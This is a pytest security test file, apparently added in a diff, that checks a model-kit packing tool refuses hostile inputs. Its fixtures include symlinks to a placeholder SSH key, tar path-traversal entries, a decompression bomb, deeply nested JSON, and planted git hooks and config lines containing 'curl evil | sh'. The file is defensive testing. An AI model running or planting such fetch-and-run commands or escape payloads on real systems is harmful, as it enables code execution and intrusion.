@@ -1,0 +1,426 @@
+"""Hostile kits and workspaces (issue 14, docs/hardening.md "Paths and symlinks" and "What a kit may
+write"): every kit below is built by hand in a real local store, and every attack is driven through the
+library and through the ``kitlab`` command. Each test checks the refusal *and* that nothing changed:
+no file outside the destination, nothing half-unpacked, no secret in any message."""
+
+from __future__ import annotations
+
+import gzip
+import hashlib
+import io
+import json
+import os
+import tarfile
+from pathlib import Path
+
+import pytest
+
+from kitlab.cli import main
+from kitlab.errors import Conflict, InvalidInput, KitlabError, PathOutsideRoot
+from kitlab.modelkit.manifest import Descriptor, build_manifest
+from kitlab.modelkit.pack import pack
+from kitlab.modelkit.safe_extract import ExtractLimits
+from kitlab.modelkit.store import LocalStore, encode_repo
+from kitlab.modelkit.unpack import unpack
+from kitlab.progress import ProgressEvent
+
+SECRET = "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW"
+KEY = f"-----BEGIN OPENSSH PRIVATE KEY-----\n{SECRET}\n-----END OPENSSH PRIVATE KEY-----\n"
+CONFIG_TYPE = "application/vnd.kitops.modelkit.config.v1+json"
+MODEL_TAR = "application/vnd.kitops.modelkit.model.v1.tar"
+CODE_TAR = "application/vnd.kitops.modelkit.code.v1.tar"
+DOCS_TAR = "application/vnd.kitops.modelkit.docs.v1.tar"
+
+
+def _sha(data: bytes) -> str:
+    return "sha256:" + hashlib.sha256(data).hexdigest()
+
+
+def _tar(entries: list[tuple[str, bytes | None]]) -> bytes:
+    buf = io.BytesIO()
+    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tf:
+        for name, data in entries:
+            info = tarfile.TarInfo(name)
+            if data is None:
+                info.type, info.mode = tarfile.DIRTYPE, 0o755
+                tf.addfile(info)
+            else:
+                info.size, info.mode = len(data), 0o644
+                tf.addfile(info, io.BytesIO(data))
+    return buf.getvalue()
+
+
+def _put_kit(
+    store: LocalStore,
+    tag: str,
+    entries: dict[str, list[dict]],
+    layers: list[tuple[str, bytes]],
+    *,
+    sizes: list[int] | None = None,
+) -> None:
+    """A classic kit in ``localhost/hostile:tag``: config entries get their layer's digest in order."""
+    descs = []
+    for i, (media_type, data) in enumerate(layers):
+        stored = store.put_blob_bytes(data)
+        size = sizes[i] if sizes else stored.size
+        descs.append(Descriptor(media_type, stored.digest, size))
+    config = {"manifestVersion": "1.0.0", "package": {"name": "hostile"}, **entries}
+    config_desc = store.put_blob_bytes(json.dumps(config).encode(), media_type=CONFIG_TYPE)
+    store.add_manifest("localhost/hostile", build_manifest(config_desc, descs, "x"), [tag])
+
+
+def _entry(path: str, layer: bytes) -> dict:
+    return {"path": path, "digest": _sha(layer), "diffId": _sha(layer)}
+
+
+def _listing(root: Path) -> dict[str, bytes | None]:
+    return {
+        str(p.relative_to(root)): (p.read_bytes() if p.is_file() and not p.is_symlink() else None)
+        for p in sorted(root.rglob("*"))
+    }
+
+
+@pytest.fixture
+def store(kitops_home: Path) -> LocalStore:
+    return LocalStore(kitops_home)
+
+
+@pytest.fixture
+def secret_file(tmp_path: Path) -> Path:
+    outside = tmp_path / "outside" / ".ssh"
+    outside.mkdir(parents=True)
+    (outside / "id_rsa").write_text(KEY)
+    return outside / "id_rsa"
+
+
+def _cli(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str]:
+    code = main([*argv])
+    out = capsys.readouterr()
+    return code, out.out + out.err
+
+
+# ---------------------------------------------------------------------------------- paths and symlinks
+
+
+@pytest.mark.parametrize("link", ["Kitfile", ".kitignore"])
+def test_a_workspace_file_linked_outside_is_never_read(
+    tmp_path: Path, store: LocalStore, secret_file: Path, capsys: pytest.CaptureFixture[str], link: str
+) -> None:
+    ctx = tmp_path / "ws" / "project"
+    ctx.mkdir(parents=True)
+    (ctx / "w.bin").write_bytes(b"weights")
+    if link == ".kitignore":
+        (ctx / "Kitfile").write_text("manifestVersion: 1.0.0\nmodel:\n  path: w.bin\n")
+    (ctx / link).symlink_to(secret_file)
+    with pytest.raises(KitlabError) as excinfo:
+        pack(ctx, store=store, plan_only=True)
+    assert SECRET not in str(excinfo.value) and "PRIVATE" not in str(excinfo.value)
+    assert "symbolic link" in str(excinfo.value)
+    for argv in (["pack", str(ctx), "--plan"], ["pack", str(ctx), "-t", "x:v1"]):
+        code, output = _cli(capsys, *argv)
+        assert code == 1
+        assert "symbolic link" in output
+        assert SECRET not in output and "PRIVATE" not in output
+    assert store.list_kits() == []
+
+
+def test_parser_errors_never_quote_the_file(tmp_path: Path, store: LocalStore) -> None:
+    # A regular file that is not a Kitfile (here: a key copied in by mistake) is named, not echoed.
+    ctx = tmp_path / "project"
+    ctx.mkdir()
+    (ctx / "Kitfile").write_text(KEY)
+    with pytest.raises(KitlabError) as excinfo:
+        pack(ctx, store=store, plan_only=True)
+    assert "line 1" in str(excinfo.value)
+    assert SECRET not in str(excinfo.value) and "PRIVATE" not in str(excinfo.value)
+
+
+@pytest.mark.parametrize("force", [False, True])
+def test_init_never_writes_through_dangling_links(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], force: bool
+) -> None:
+    ws = tmp_path / "ws"
+    (ws / "project").mkdir(parents=True)
+    (ws / "project" / "train.py").write_text("print('hi')\n")
+    (ws / "project" / ".env").write_text("API_KEY=x\n")  # makes the scan suggest a .kitignore
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    (ws / "project" / "Kitfile").symlink_to(outside / "planted-kitfile")
+    (ws / "project" / ".kitignore").symlink_to(outside / "planted-ignore")
+    argv = ["init", str(ws / "project"), "--root", str(ws)] + (["--force"] if force else [])
+    code, output = _cli(capsys, *argv)
+    assert list(outside.iterdir()) == []  # neither link's target was ever created
+    if force:
+        assert code == 0, output
+        assert not (ws / "project" / "Kitfile").is_symlink()
+        assert "manifestVersion" in (ws / "project" / "Kitfile").read_text()
+        assert (ws / "project" / ".kitignore").is_symlink()  # the user's .kitignore is never touched
+    else:
+        assert code == 1
+        assert "already exists" in output
+        assert (ws / "project" / "Kitfile").is_symlink()
+
+
+def _two_layer_kit(store: LocalStore) -> None:
+    model = _tar([("models", None), ("models/w.bin", b"w" * 4096)])
+    docs = _tar([("README.md", b"# readme\n")])
+    entries = {"model": _entry("models/w.bin", model), "docs": [_entry("README.md", docs)]}
+    _put_kit(store, "two", entries, [(MODEL_TAR, model), (DOCS_TAR, docs)])
+
+
+def test_destination_swapped_for_a_symlink_between_layers_stays_inside(
+    tmp_path: Path, store: LocalStore
+) -> None:
+    _two_layer_kit(store)
+    root = tmp_path / "ws"
+    root.mkdir()
+    dest = root / "copy"
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    swapped = []
+
+    def swap_after_first_layer(event: ProgressEvent) -> None:
+        if event.index == 0 and event.done == event.total and not swapped:
+            dest.rename(root / "moved")
+            dest.symlink_to(outside)
+            swapped.append(True)
+
+    unpack("hostile:two", dest, store=store, root=root, progress=swap_after_first_layer)
+    assert swapped
+    assert list(outside.iterdir()) == []
+    assert (root / "moved" / "README.md").read_text() == "# readme\n"
+    assert (root / "moved" / "models" / "w.bin").stat().st_size == 4096
+
+
+def test_destination_that_is_a_symlink_out_of_the_root_is_refused(tmp_path: Path, store: LocalStore) -> None:
+    _two_layer_kit(store)
+    root = tmp_path / "ws"
+    root.mkdir()
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    (root / "copy").symlink_to(outside)
+    with pytest.raises(PathOutsideRoot):
+        unpack("hostile:two", root / "copy", store=store, root=root)
+    assert list(outside.iterdir()) == []
+
+
+# ---------------------------------------------------------------------------------- what a kit may write
+
+
+def test_a_layer_writes_only_its_own_entry_path(
+    tmp_path: Path, store: LocalStore, capsys: pytest.CaptureFixture[str]
+) -> None:
+    good = _tar([("README.md", b"# fine\n")])
+    model = _tar([("models", None), ("models/w.bin", b"w"), ("src", None), ("src/evil.py", b"import os\n")])
+    entries = {"model": _entry("models/w.bin", model), "docs": [_entry("README.md", good)]}
+    _put_kit(store, "stray", entries, [(DOCS_TAR, good), (MODEL_TAR, model)])
+    dest = tmp_path / "out"
+    with pytest.raises(PathOutsideRoot, match="holds 'src', outside that path"):
+        unpack("hostile:stray", dest, store=store)
+    assert not dest.exists()  # all or nothing: not even the first layer or the Kitfile
+    code, output = _cli(capsys, "unpack", "hostile:stray", "-d", str(dest))
+    assert code == 1 and "outside that path" in output
+    assert not dest.exists()
+
+
+def test_nothing_is_ever_written_into_git(tmp_path: Path, store: LocalStore, capsys) -> None:
+    code_layer = _tar(
+        [
+            ("train.py", b"print('train')\n"),
+            (".git", None),
+            (".git/hooks", None),
+            (".git/hooks/pre-commit", b"#!/bin/sh\ncurl evil | sh\n"),
+            (".git/config", b"[core]\n\tfsmonitor = curl evil | sh\n"),
+            ("sub/.GIT/config", b"x"),
+        ]
+    )
+    _put_kit(store, "git", {"code": [_entry(".", code_layer)]}, [(CODE_TAR, code_layer)])
+    for runner in ("library", "cli"):
+        dest = tmp_path / runner
+        (dest / ".git" / "hooks").mkdir(parents=True)
+        (dest / ".git" / "config").write_text("[core]\n")
+        before = _listing(dest / ".git")
+        if runner == "library":
+            result = unpack("hostile:git", dest, store=store, overwrite=True)
+            assert sorted(result.refused) == [
+                ".git",
+                ".git/config",
+                ".git/hooks",
+                ".git/hooks/pre-commit",
+                "sub/.GIT/config",
+            ]
+        else:
+            code, output = _cli(capsys, "unpack", "hostile:git", "-d", str(dest), "--overwrite")
+            assert code == 0, output
+            assert ".git/hooks/pre-commit" in output  # reported
+        assert _listing(dest / ".git") == before
+        assert not (dest / "sub").exists()
+        assert (dest / "train.py").read_text() == "print('train')\n"
+
+
+def test_refused_entry_leaves_the_destination_as_it_was(tmp_path: Path, store: LocalStore) -> None:
+    model = _tar([("models", None), ("models/w.bin", b"new weights")])
+    evil = _tar([("../escape.txt", b"x")])
+    entries = {"model": _entry("models/w.bin", model), "code": [_entry(".", evil)]}
+    _put_kit(store, "late", entries, [(MODEL_TAR, model), (CODE_TAR, evil)])
+    dest = tmp_path / "out"
+    (dest / "models").mkdir(parents=True)
+    (dest / "models" / "w.bin").write_bytes(b"old weights")
+    (dest / "notes.txt").write_text("mine")
+    before = _listing(dest)
+    with pytest.raises(PathOutsideRoot):
+        unpack("hostile:late", dest, store=store, overwrite=True)
+    assert _listing(dest) == before  # no Kitfile, the old model kept, no staging folder left
+    assert not (tmp_path / "escape.txt").exists()
+
+
+def test_a_tampered_blob_leaves_nothing(tmp_path: Path, store: LocalStore) -> None:
+    _two_layer_kit(store)
+    desc = store.resolve("hostile:two")
+    layer = store.get_manifest(desc).layers[1]
+    blob = store.blob_path(layer.digest)
+    data = bytearray(blob.read_bytes())
+    data[600] ^= 0xFF  # inside README.md's data: same size, other content
+    blob.chmod(0o600)
+    blob.write_bytes(bytes(data))
+    dest = tmp_path / "out"
+    with pytest.raises(InvalidInput, match="corrupt"):
+        unpack("hostile:two", dest, store=store)
+    assert not dest.exists()
+
+
+def test_a_second_unpack_keeps_kits_overwrite_rules(tmp_path: Path, store: LocalStore) -> None:
+    _two_layer_kit(store)
+    dest = tmp_path / "out"
+    unpack("hostile:two", dest, store=store)
+    (dest / "README.md").write_text("edited")
+    with pytest.raises(Conflict, match="already exists"):
+        unpack("hostile:two", dest, store=store)
+    assert (dest / "README.md").read_text() == "edited"
+    result = unpack("hostile:two", dest, store=store, ignore_existing=True)
+    assert (dest / "README.md").read_text() == "edited"
+    assert result.layers[1].skipped_existing == ["README.md"]
+    unpack("hostile:two", dest, store=store, overwrite=True)
+    assert (dest / "README.md").read_text() == "# readme\n"
+    assert sorted(p.name for p in dest.iterdir()) == ["Kitfile", "README.md", "models"]
+
+
+def _gzip_bomb(size: int) -> bytes:
+    """A gzip tar of one file of ``size`` zero bytes, compressed without holding it in memory."""
+    info = tarfile.TarInfo("zeros.bin")
+    info.size = size
+    out = io.BytesIO()
+    with gzip.GzipFile(fileobj=out, mode="wb", compresslevel=9, mtime=0) as gz:
+        gz.write(info.tobuf(format=tarfile.PAX_FORMAT))
+        chunk = bytes(1 << 20)
+        for _ in range(size >> 20):
+            gz.write(chunk)
+        gz.write(bytes(1024))  # end of archive
+    return out.getvalue()
+
+
+def test_expansion_is_capped_by_the_declared_size(tmp_path: Path, store: LocalStore) -> None:
+    bomb = _gzip_bomb(72 << 20)
+    assert len(bomb) < 200_000  # ~1000:1, as the 398 KB → 400 MB layer of issue 14
+    entries = {"model": _entry("zeros.bin", bomb)}
+    _put_kit(store, "bomb", entries, [("application/vnd.kitops.modelkit.model.v1.tar+gzip", bomb)])
+    dest = tmp_path / "out"
+    with pytest.raises(InvalidInput, match="decompression bomb"):
+        unpack("hostile:bomb", dest, store=store)
+    assert not dest.exists()
+    # The cap is a setting of the library: a caller who trusts the kit may raise it.
+    unpack("hostile:bomb", dest, store=store, limits=ExtractLimits(max_ratio=2000))
+    assert (dest / "zeros.bin").stat().st_size == 72 << 20
+
+
+@pytest.mark.parametrize("delta", [-5, -512, 4096])
+def test_declared_layer_sizes_are_checked(tmp_path: Path, store: LocalStore, delta: int) -> None:
+    model = _tar([("w.bin", b"w" * 100)])
+    _put_kit(
+        store, "size", {"model": _entry("w.bin", model)}, [(MODEL_TAR, model)], sizes=[len(model) + delta]
+    )
+    dest = tmp_path / "out"
+    with pytest.raises(InvalidInput, match="declares"):
+        unpack("hostile:size", dest, store=store)
+    assert not dest.exists()
+
+
+def _nested(depth: int) -> str:
+    return "[" * depth + "]" * depth
+
+
+def _list_by_hand(store: LocalStore, repo: str, tag: str, manifest: bytes) -> str:
+    """List a manifest the way a hostile writer would: no parsing, straight into the index files."""
+    digest = store.put_blob_bytes(manifest).digest
+    desc = {
+        "mediaType": "application/vnd.oci.image.manifest.v1+json",
+        "digest": digest,
+        "size": len(manifest),
+    }
+    (store.storage / f"{encode_repo(repo)}-index.json").write_text(
+        json.dumps({"schemaVersion": 2, "manifests": [desc]})
+    )
+    (store.storage / f"{encode_repo(repo)}-tags.json").write_text(json.dumps({tag: desc}))
+    return digest
+
+
+def test_deeply_nested_documents_spoil_only_their_own_kit(
+    tmp_path: Path, store: LocalStore, capsys: pytest.CaptureFixture[str]
+) -> None:
+    _two_layer_kit(store)  # a good kit
+    deep = 5000
+    config = (
+        f'{{"manifestVersion":"1.0.0","package":{{"name":"deep"}},"model":{{"parameters":{_nested(deep)}}}}}'
+    )
+    config_desc = store.put_blob_bytes(config.encode(), media_type=CONFIG_TYPE)
+    store.add_manifest("localhost/deepconfig", build_manifest(config_desc, [], "x"), ["v1"])
+    manifest = (
+        json.dumps(
+            {
+                "schemaVersion": 2,
+                "config": {"mediaType": CONFIG_TYPE, "digest": config_desc.digest, "size": config_desc.size},
+                "layers": [],
+            }
+        )[:-1]
+        + f',"x":{_nested(deep)}}}'
+    )
+    _list_by_hand(store, "localhost/deepmanifest", "v1", manifest.encode())
+    _list_by_hand(store, "localhost/deeptags", "v1", b"{}")
+    (store.storage / f"{encode_repo('localhost/deeptags')}-tags.json").write_text(_nested(deep))
+
+    kits = {k.repo: k for k in store.list_kits()}
+    assert kits["hostile"].error == "" and kits["hostile"].tags == ["two"]
+    for repo in ("deepconfig", "deepmanifest", "deeptags"):
+        assert "nests deeper than" in kits[repo].error, repo
+    code, output = _cli(capsys, "list")
+    assert code == 0
+    assert "hostile" in output and "RecursionError" not in output
+    for ref in ("deepconfig:v1", "deepmanifest:v1"):
+        with pytest.raises(InvalidInput, match="nests deeper"):
+            unpack(ref, tmp_path / "out", store=store)
+        code, output = _cli(capsys, "unpack", ref, "-d", str(tmp_path / "out"))
+        assert code == 1 and "nests deeper" in output
+        code, output = _cli(capsys, "inspect", ref)
+        assert code == 1 and "nests deeper" in output
+    assert not (tmp_path / "out").exists()
+
+
+def test_an_oversized_config_descriptor_is_refused_before_reading(tmp_path: Path, store: LocalStore) -> None:
+    config_desc = store.put_blob_bytes(b"{}", media_type=CONFIG_TYPE)
+    huge = Descriptor(CONFIG_TYPE, config_desc.digest, 10 << 30)
+    store.add_manifest("localhost/huge", build_manifest(huge, [], "x"), ["v1"])
+    (kit,) = store.list_kits()
+    assert "at most" in kit.error
+    with pytest.raises(InvalidInput, match="at most"):
+        unpack("huge:v1", tmp_path / "out", store=store)
+
+
+def test_stale_staging_folders_of_dead_unpacks_are_swept(tmp_path: Path, store: LocalStore) -> None:
+    _two_layer_kit(store)
+    dest = tmp_path / "out"
+    stale = dest / ".kitlab-unpack-999999999-abcdef"
+    (stale / "models").mkdir(parents=True)
+    (stale / "models" / "half.bin").write_bytes(b"x")
+    unpack("hostile:two", dest, store=store)
+    assert sorted(p.name for p in dest.iterdir()) == ["Kitfile", "README.md", "models"]
+    assert os.listdir(dest / "models") == ["w.bin"]
